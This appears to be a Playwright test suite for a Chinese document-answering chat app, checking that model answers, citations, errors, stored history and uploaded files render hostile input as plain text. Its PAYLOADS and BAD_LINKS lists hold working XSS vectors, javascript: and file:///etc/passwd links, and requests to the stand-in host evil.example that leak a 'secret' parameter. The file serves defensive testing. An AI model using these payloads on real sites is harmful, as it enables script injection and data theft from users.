"""Hostile words in documents, questions and a model's answer: shown as words, and nothing else."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import httpx2
import pytest
from playwright.sync_api import Browser, Page, expect

from bot.testing import Server
from bot.testing_stream import ScriptedSite, answer, citation, script

pytestmark = pytest.mark.slow

AWAY = "https://evil.example"
RUN = "window.__pwned=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<svg/onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"<a href='javascript:{RUN}'>点击</a>",
    f"<form><button formaction=javascript:{RUN}>按钮</button></form>",
    f"</textarea></title><script>{RUN}</script>",
    f'"><body onpageshow={RUN}>',
    f"<style>*{{background:url({AWAY}/css)}}</style>",
    f"<link rel=prefetch href={AWAY}/prefetch>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/refresh'>",
    f"<base href={AWAY}/>",
    f"![图]({AWAY}/image?secret=1)",
    f"[链接]({AWAY}/link?secret=1)",
    f"[链接](javascript:{RUN})",
    f"![图][参考]\n\n[参考]: {AWAY}/reference",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}}",
    f"\u202e<object data={AWAY}/object></object>\u202c",
]
BAD_LINKS = [
    f"javascript:{RUN}",
    f" javascript:{RUN}",
    f"java\nscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "blob:null",
    "file:///etc/passwd",
    "",
]
TEXT = "编号{}的猫住在屋顶上，{} 每天晒太阳。\n"
OURS = (
    "document.querySelectorAll('.turn :is(script, img, iframe, object, link, style, form[action])')"
)


@contextmanager
def watched(browser: Browser, *, policy: bool) -> Iterator[Page]:
    """A page on which nothing may run, be asked or be fetched from elsewhere.

    Without its policy the page has to be as safe: the policy is the second line.
    """
    wrong: list[str] = []
    with browser.new_context(locale="zh-CN", bypass_csp=not policy) as context:
        context.set_default_timeout(10_000)
        context.on("dialog", lambda dialog: wrong.append(f"dialog {dialog.message}"))
        context.on("weberror", lambda error: wrong.append(str(error.error)))
        context.on("request", lambda request: wrong.extend(_foreign(request.url)))
        context.on("console", lambda said: wrong.extend(_broken(said.text)))
        page = context.new_page()
        yield page
        page.wait_for_timeout(200)  # what would be fetched or run later
        for each in context.pages:
            assert each.evaluate("window.__pwned") is None
    assert wrong == []


def _foreign(url: str) -> list[str]:
    return [] if urlsplit(url).hostname == "127.0.0.1" or url == "data:," else [url]


def _broken(said: str) -> list[str]:
    return [said] if "Policy" in said or "Trusted" in said else []


def send(page: Page, question: str) -> None:
    page.get_by_role("textbox", name="问题").fill(question)
    page.get_by_role("button", name="发送").click()
    expect(page.locator(".turn").last.locator('[data-state="done"]')).to_be_visible()
    expect(page.locator(".log")).to_have_attribute("aria-busy", "false")


@pytest.mark.parametrize("policy", [True, False])
def test_whatever_a_model_or_document_says_is_shown_as_it_is(
    chromium: Browser, *, policy: bool
) -> None:
    with ScriptedSite() as site, watched(chromium, policy=policy) as page:
        page.goto(site.url)
        for number, payload in enumerate(PAYLOADS):
            link = BAD_LINKS[number % len(BAD_LINKS)]
            source = citation(
                1,
                title=payload,
                headings=["手册", payload],
                quote=payload,
                passage=f"前{payload}后",
                source_url=link,
                view_url=link,
            )
            refusal = {"reason": payload, "missing": [payload], "nearest": [payload]}
            whole = answer(f"{payload}[1]", [source], refused=True, refusal=refusal)
            site.plays = [script(whole)]
            send(page, payload)
            turn = page.locator(".turn").last
            shown = turn.locator(".prose").evaluate("prose => prose.textContent")
            assert shown.replace("\u2060", "") == f"{payload}1".replace("\n", "")
            assert payload in turn.locator(".question").evaluate("it => it.textContent")
            expect(turn.locator("a")).to_have_count(0)  # none of these may be followed
        assert page.evaluate(OURS + ".length") == 0


def test_an_error_is_words_too(chromium: Browser) -> None:
    with ScriptedSite() as site, watched(chromium, policy=False) as page:
        page.goto(site.url)
        for payload in PAYLOADS[:3]:
            problem = {"status": 500, "code": payload, "detail": payload, "detail_en": payload}
            site.plays = [[("error", problem)]]
            page.get_by_role("textbox", name="问题").fill("问")
            page.get_by_role("button", name="发送").click()
            expect(page.get_by_role("alert").last).to_have_text(f"出错了：{payload}")


def test_what_the_browser_kept_is_not_trusted_either(chromium: Browser) -> None:
    entries = [{"id": payload, "title": payload} for payload in PAYLOADS]
    kept = json.dumps([*entries, None, 3, {"id": 4}])
    with ScriptedSite() as site, watched(chromium, policy=False) as page:
        page.add_init_script(f"localStorage['wenqu.history'] = {json.dumps(kept)}")
        page.goto(site.url)
        expect(page.locator(".history-open")).to_have_count(len(PAYLOADS))
        page.add_init_script(
            "localStorage['wenqu.history'] = '{'; sessionStorage['wenqu.session'] = '['"
        )
        page.reload()
        expect(page.locator(".history-open")).to_have_count(0)


def test_what_a_site_says_of_its_widget_is_words(chromium: Browser) -> None:
    with ScriptedSite() as site, watched(chromium, policy=False) as page:
        for payload in PAYLOADS[:6]:
            query = {"title": payload, "greeting": payload, "lang": payload, "theme": payload}
            more = {"colour": f"red;background:url({AWAY})", "on": payload, "origin": payload}
            page.goto(f"{site.url}/widget/frame?{httpx2.QueryParams({**query, **more})}")
            expect(page.locator(".title")).to_have_text(payload)
            expect(page.locator(".greeting")).to_have_text(payload)


def test_hostile_documents_are_answered_from_and_opened_safely(
    chromium: Browser, tmp_path: Path
) -> None:
    with Server(tmp_path / "var") as server:
        parts = [
            ("files", (f"{number}.md", f"# 猫{number} {payload}\n\n{TEXT.format(number, payload)}"))
            for number, payload in enumerate(PAYLOADS)
        ]
        made = httpx2.post(f"{server.url}/api/documents", files=parts, timeout=60)
        assert made.status_code in {200, 207}, made.text
        assert len(made.json()["added"]) == len(PAYLOADS)
        with watched(chromium, policy=True) as page:
            page.goto(server.url)
            for question in ("编号1的猫住在哪里？", "编号14的猫住在哪里？", "编号16的猫住在哪里？"):
                send(page, question)
            assert page.locator("a.marker").count() >= 3
            for source in httpx2.get(f"{server.url}/api/documents").json()["documents"][:6]:
                opened = page.context.new_page()
                opened.goto(f"{server.url}{source['view_url']}&start=0&end=40")
                assert opened.locator("img, iframe, object").count() == 0
            assert page.evaluate(OURS + ".length") == 0
            links = page.locator(".turn a").evaluate_all("all => all.map(({protocol}) => protocol)")
            assert set(links) <= {"http:", "https:"}
